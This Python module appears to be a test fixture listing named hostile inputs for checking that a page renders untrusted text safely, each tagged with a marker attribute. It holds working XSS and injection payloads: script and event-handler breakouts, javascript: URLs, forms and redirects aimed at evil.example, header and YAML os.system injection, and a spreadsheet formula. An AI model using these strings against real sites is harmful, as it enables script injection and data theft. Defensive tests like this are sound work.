"""Texts that would be a script, a form or a way out if a page took one of them for more than a text.

Each that holds markup marks it with the attribute `nbhit`, so one look at the parsed page tells whether any of it became
an element, also where the policy of content keeps it from doing harm.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "nbhit"
_ACT: Final = "onerror=alert(1)"
_IMAGE: Final = f"<img {MARK} src=x {_ACT}>"
_AWAY: Final = "//evil.example/"

HOSTILE: Final[dict[str, str]] = {
    # scripts, plain and disguised
    "script": f"<script {MARK}>alert(1)</script>",
    "script in odd letters": f"<ScRiPt/{MARK}/x>alert(1)</sCrIpT >",
    "script from elsewhere": f"<script {MARK} src={_AWAY}x.js></script>",
    "script after an end": f"</script><script {MARK}>alert(1)</script>",
    "script in JSON": f'{{"a": "</script>{_IMAGE}"}}',
    "import map": f'<script {MARK} type=importmap>{{"imports": {{"./live.js": "data:text/javascript,alert(1)"}}}}</script>',
    # out of an attribute, with each quote and with none
    "double quote": f'">{_IMAGE}',
    "single quote": f"'>{_IMAGE}",
    "backtick": f"`>{_IMAGE}",
    "attribute after a double quote": f'" {MARK} autofocus onfocus=alert(1) x="',
    "attribute after a single quote": f"' {MARK} autofocus onfocus=alert(1) x='",
    "attribute without quotes": f"x {MARK} onpointerenter=alert(1) autofocus onfocus=alert(1) x=",
    # out of elements whose text is read otherwise
    "textarea": f"</textarea>{_IMAGE}",
    "title": f"</title>{_IMAGE}",
    "select": f"</option></select>{_IMAGE}",
    "pre": f"</code></pre>{_IMAGE}",
    "noscript": f'<noscript><p title="</noscript>{_IMAGE}">',
    "template": f"</template><template {MARK} shadowrootmode=open>{_IMAGE}</template>",
    "comment": f"<!-->{_IMAGE}-->",
    "comment without an end": f"--><!-- {MARK}",
    "declaration": f"<![CDATA[{_IMAGE}]]><?x {MARK}?>",
    # other parsers inside of the parser
    "svg": f"<svg {MARK} onload=alert(1)>",
    "svg that moves": f"<svg><a {MARK}><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a>",
    "svg with HTML": f"</svg><svg><foreignObject {MARK}><body onload=alert(1)></foreignObject>",
    "math": f"<math {MARK}><mi xlink:href=javascript:alert(1)>x<mglyph><style><!--</style>{_IMAGE}-->",
    "twice read": f'<form {MARK}><table><form><svg><style><p title="</style>{_IMAGE}">',
    # addresses
    "javascript address": f"javascript:alert(1)//{MARK}",
    "javascript address, split": f"java\tscript:alert(1)//{MARK}",
    "data address": f"data:text/html,<script {MARK}>alert(1)</script>",
    "address of another site": f"{_AWAY}{MARK}",
    "encoded": f"%3Cimg%20{MARK}%20src=x%20{_ACT}%3E%253Cimg%2520{MARK}%253E",
    "climbing": f"../../..%2f..%5c{_IMAGE}",
    # without any script
    "base": f"<base {MARK} href={_AWAY}>",
    "refresh": f'<meta {MARK} http-equiv=refresh content="0;url={_AWAY}">',
    "link": f"<link {MARK} rel=stylesheet href={_AWAY}x.css>",
    "style": f"</style><style {MARK}>@import '{_AWAY}x.css'; * {{ background: url({_AWAY}) }}</style>",
    "style of an element": f'" {MARK} style="position:fixed;inset:0;background:url({_AWAY})',
    "form": f"</form><form {MARK} action={_AWAY} method=post><button>x</button></form>",
    "button": f"<button {MARK} form=ticked formaction={_AWAY}>x</button>",
    "frame": f'<iframe {MARK} srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object": f"<object {MARK} data={_AWAY}></object><embed src={_AWAY}>",
    "names of ours": f"<a {MARK} id=toasts name=dataset><form id=live name=body><input name=hidden><input name=action>",
    "dialog": f"<dialog {MARK} id=confirm open><button autofocus onfocus=alert(1)>x</button></dialog>",
    "events of their own": f"<details {MARK} open ontoggle=alert(1)><video {MARK}><source {_ACT}></video>",
    # letters
    "entities": f"&lt;img {MARK} src=x {_ACT}&gt;&#60;img {MARK}&#62;&#x3c;img {MARK}&#x3e;",
    "wide letters": f"＜img {MARK} src=x {_ACT}＞\ufe64img {MARK}\ufe65",
    "from right to left": f"\u202e{_IMAGE}\u2066",
    "invisible letters": f"<\u200bimg {MARK}>\ufeff{_IMAGE}\u00ad",
    "lines of JavaScript": f"\u2028alert(1)\u2029//{_IMAGE}",
    "NUL": f"<im\x00g {MARK} src=x {_ACT}>\x00{_IMAGE}",
    "control characters": f"\x1b[31m\x07\x08<\x0cimg {MARK}\x0b>{_IMAGE}",
    "half a letter": f"\ud83d{_IMAGE}",
    # other languages
    "templates": "{{7*7}}{%print(7*7)%}{#7#}${7*7}#{7*7}<%=7*7%>[[7*7]]{{constructor.constructor('alert(1)')()}}",
    "formats": "%s%(name)s{name}{0}{__class__}{n}$&$1|many",
    "header": f"x\r\nSet-Cookie: {MARK}=1\r\nContent-Type: text/html\r\n\r\n{_IMAGE}",
    "calendar": f"x\nEND:VEVENT\nX-{MARK.upper()}:1\n",
    "formula": f'=HYPERLINK("http:{_AWAY}{MARK}","x")',
    "YAML": f"x: &a !!python/name:os.system\n- *a\n{MARK}: 1 # ",
    "very long": _IMAGE * 1500,
}
"""By what it tries; a name of a few words, to be named in a failure."""
